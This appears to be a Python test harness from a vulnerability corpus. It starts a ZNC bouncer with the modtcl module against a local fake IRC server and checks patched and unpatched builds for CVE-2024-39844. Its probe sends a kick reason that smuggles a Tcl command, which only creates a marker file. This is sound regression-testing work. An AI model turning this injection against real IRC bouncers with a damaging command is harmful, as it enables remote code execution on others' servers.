"""znc: a C++ daemon, its hole in a module that it loads when it starts."""

from __future__ import annotations

import os
import queue
import socket
from pathlib import Path

from tests.corpus.model import FLAGS, Case, Package, Patched, Subject
from tests.corpus.servers import serve_tcp
from tests.corpus.targets import PATIENCE, Daemon, ProbeError, Verdict, free_port, until


class Znc(Daemon):
    """CVE-2024-39844: the reason of a kick is run as a part of a Tcl command.

    The bouncer is connected to an IRC network of ours. Whoever kicks somebody there says why, and opens a file by it.
    """

    def __init__(self, subject: Subject, scratch: Path) -> None:
        port = free_port()
        self._marker = scratch / "marker"
        self._started = scratch / "started"
        (scratch / "start.tcl").write_text(f"close [open {self._started} w]\n")
        self._orders: queue.SimpleQueue[bytes] = queue.SimpleQueue()
        self._answers: queue.SimpleQueue[bytes] = queue.SimpleQueue()
        for folder in ("configs", "modules"):
            (scratch / folder).mkdir()
        module = scratch / "modules" / "modtcl.so"
        # the module is the image under test: loaded from where it was built, so that it is the file that is patched
        module.symlink_to(subject.image)
        (scratch / "configs" / "znc.conf").write_text(
            "Version = 1.8.2\n"
            f"<Listener l>\n Port = {port}\n IPv4 = true\n IPv6 = false\n SSL = false\n Host = 127.0.0.1\n</Listener>\n"
            "<User admin>\n Admin = true\n Nick = bouncer\n"
            " <Pass password>\n  Method = plain\n  Hash = secret\n </Pass>\n"
            f" LoadModule = modtcl {scratch / 'start.tcl'}\n"
            f" <Network net>\n  Server = 127.0.0.1 {serve_tcp(self._serve)}\n"
            "  <Chan #channel>\n  </Chan>\n </Network>\n</User>\n"
        )
        program = subject.image.parents[1] / "src" / "znc"
        command = [str(program), "--foreground", "--datadir", str(scratch)]
        if os.geteuid() == 0:  # it makes root wait for half a minute
            command = ["unshare", "--user", "--map-user=1000", "--map-group=1000", *command]
        super().__init__(command, scratch, port)

    def _serve(self, connection: socket.socket) -> None:
        """The IRC server: lets the bouncer in, then says what it is told to, and keeps the answers to its pings."""
        lines = connection.makefile("rb")
        joined = False
        while line := lines.readline():
            word, _, rest = line.strip().partition(b" ")
            if word == b"USER":
                connection.sendall(b":server 001 bouncer :Welcome\r\n:server 422 bouncer :No message\r\n")
            elif word == b"JOIN" and not joined:
                joined = True
                connection.sendall(
                    b":bouncer!b@host JOIN #channel\r\n:server 353 bouncer = #channel :bouncer victim operator\r\n"
                    b":server 366 bouncer #channel :End\r\n"
                )
                self._answers.put(b"joined")
                connection.sendall(self._orders.get())
            elif word == b"PONG" and rest.strip(b":").startswith(b"probe"):
                self._answers.put(rest)
                connection.sendall(self._orders.get())

    def wait_until_ready(self) -> None:
        """Return when the bouncer is in the channel, and its module has started, which takes it a second."""
        super().wait_until_ready()
        if self._answers.get(timeout=PATIENCE) != b"joined":
            raise ProbeError(f"znc has not joined the channel: {self.said()}")
        until(self._started.exists, "the module modtcl")

    def _console(self, line: bytes) -> bytes:
        with self.connect() as client:
            client.sendall(b"PASS admin/net:secret\r\nNICK a\r\nUSER a 0 * a\r\n" + line + b"\r\nPING end\r\n")
            lines = client.makefile("rb")
            answer = b""
            while (read := lines.readline()) and b"PONG" not in read:
                answer += read
        return answer

    def request(self) -> None:
        """Log in as a client, and ask what modules there are."""
        if b"modtcl" not in self._console(b"PRIVMSG *status :ListMods"):
            raise ProbeError("znc does not name its module")

    def probe(self) -> Verdict:
        """Kick, and then ping: when that is answered, the kick has been dealt with."""
        self._marker.unlink(missing_ok=True)
        reason = b"no} ; close [open %s w] ; list {" % os.fsencode(self._marker)
        self._orders.put(b":operator!o@host KICK #channel victim :" + reason + b"\r\nPING :probe\r\n")
        self._answers.get(timeout=PATIENCE)
        return Verdict.VULNERABLE if self._marker.exists() else Verdict.FIXED


ZNC = Package(
    "znc",
    "1.8.2-3.1+deb12u1",
    f"[ -e build/Makefile ] || cmake -B build -DCMAKE_BUILD_TYPE=None -DCMAKE_CXX_FLAGS='{FLAGS}' -DWANT_TCL=ON"
    " -DWANT_CYRUS=OFF -DWANT_PYTHON=OFF -DWANT_PERL=OFF -DWANT_I18N=OFF -DWANT_ICU=OFF -DWANT_OPENSSL=OFF"
    " -DWANT_ZLIB=OFF; make -C build -j2 znc module_modtcl",
    "build/modules/modtcl.so",
)

CASES = (
    Case(
        ZNC,
        "CVE-2024-39844",
        ("CVE-2024-39844.patch",),
        # virtual member functions of a class that a module defines; exceptions pass through them
        Patched(
            Znc,
            frozenset(
                {
                    "_ZN7CModTcl6OnKickERK5CNickRK7CStringR5CChanS5_",
                    "_ZN7CModTcl6OnNickERK5CNickRK7CStringRKSt6vectorIP5CChanSaIS8_EE",
                }
            ),
        ),
    ),
)
